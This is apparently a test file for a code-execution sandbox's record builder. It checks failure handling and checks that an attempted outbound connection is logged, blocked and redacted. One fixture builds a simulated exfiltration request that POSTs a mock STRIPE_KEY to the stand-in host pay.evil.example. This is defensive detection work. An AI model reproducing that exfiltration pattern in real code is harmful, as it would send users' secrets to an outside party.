import { ExecutionRecord } from '@sigma/core';
import { describe, expect, it } from 'vitest';
import type { RawRun } from './execute.js';
import { makeMocks } from './mock-env.js';
import { BoundedCapture } from './output.js';
import { buildRecord, type RecordContext } from './record.js';
import type { TraceSummary } from './trace.js';

const { mocks } = makeMocks(['STRIPE_KEY']);
const ctx: RecordContext = {
  runtime: 'node',
  entry: 'index.js',
  args: [],
  mocks,
  limits: { timeoutMs: 30_000, memoryMb: 256, maxProcesses: 64, maxOutputBytes: 65536, tmpBytes: 1 << 24, tmpFiles: 1024 },
};

function raw(over: Partial<RawRun>): RawRun {
  return {
    failure: null,
    timedOut: false,
    traceOverflow: false,
    durationMs: 1200,
    stdout: new BoundedCapture(100),
    stderr: new BoundedCapture(100),
    trace: null,
    sink: null,
    phases: { namespaces: 0, sink: 0, exited: 0, traced: 0 },
    ...over,
  };
}

const emptyTrace = (over: Partial<TraceSummary> = {}): TraceSummary => ({
  entryFound: true,
  exit: { code: 0, signal: null },
  processes: [],
  files: [],
  connections: [],
  denied: [],
  signals: [],
  limitsHit: new Set(),
  truncated: false,
  unparsed: 0,
  ...over,
});

describe('execution record', () => {
  it('is ERROR when the sandbox failed, and says nothing is known about the code', () => {
    const r = ExecutionRecord.parse(buildRecord(ctx, raw({ failure: 'the sandbox did not start: bwrap: No permissions' })));
    expect(r).toMatchObject({ outcome: 'ERROR', reasonCode: 'SANDBOX_FAILED', exitCode: null });
    expect(r.description).toMatch(/^The sandbox failed \(the sandbox did not start.*nothing can be said/);
  });

  it('is ERROR (RECORDING_FAILED) when the code ran but the trace is unreadable', () => {
    const r = buildRecord(ctx, raw({ trace: null }));
    expect(r).toMatchObject({ outcome: 'ERROR', reasonCode: 'RECORDING_FAILED' });
  });

  it('joins the trace with the sink: host from DNS, payload, mock names, and a readable description', () => {
    const body = `POST /charge HTTP/1.1\r\nhost: pay.evil.example\r\ncontent-length: 40\r\n\r\nkey=${mocks[0]!.value}`;
    const r = ExecutionRecord.parse(
      buildRecord(
        ctx,
        raw({
          trace: emptyTrace({
            connections: [{ protocol: 'tcp', address: '198.18.0.1', port: 80, attempts: 1, results: new Set(['EINPROGRESS']), payload: [], bytes: 0 }],
          }),
          sink: {
            ready: { t: 'ready', anyAddress: true, udp: true, ports: [80] },
            dns: [{ t: 'dns', name: 'pay.evil.example', type: 'A', answeredWith: '198.18.0.1', transport: 'udp' }],
            tcp: [
              {
                t: 'tcp',
                dst: '198.18.0.1',
                port: 80,
                bytes: body.length,
                truncated: false,
                kind: 'http',
                sni: null,
                http: { method: 'POST', path: '/charge', host: 'pay.evil.example' },
                data: Buffer.from(body).toString('base64'),
              },
            ],
            dropped: 0,
            malformed: 0,
            ended: true,
          },
        }),
      ),
    );
    expect(r.outcome).toBe('COMPLETED');
    expect(r.attemptedConnections).toEqual([
      expect.objectContaining({ host: 'pay.evil.example', port: 80, blocked: true, reachedSink: true, bytesSent: body.length, containsMock: ['STRIPE_KEY'] }),
    ]);
    expect(r.attemptedConnections[0]!.payloadExcerpt).toContain('key=<mock STRIPE_KEY>');
    expect(r.attemptedConnections[0]!.payloadExcerpt).not.toContain(mocks[0]!.value);
    expect(r.description).toBe(
      `Ran index.js with Node.js in the sandbox for 1.2 s; it exited with code 0. It tried to reach pay.evil.example:80 (blocked; the sandbox's loopback sink took ${body.length} bytes: an HTTP POST /charge), and what it sent contained the mock value of STRIPE_KEY. It looked up 1 name (pay.evil.example).`,
    );
  });
});
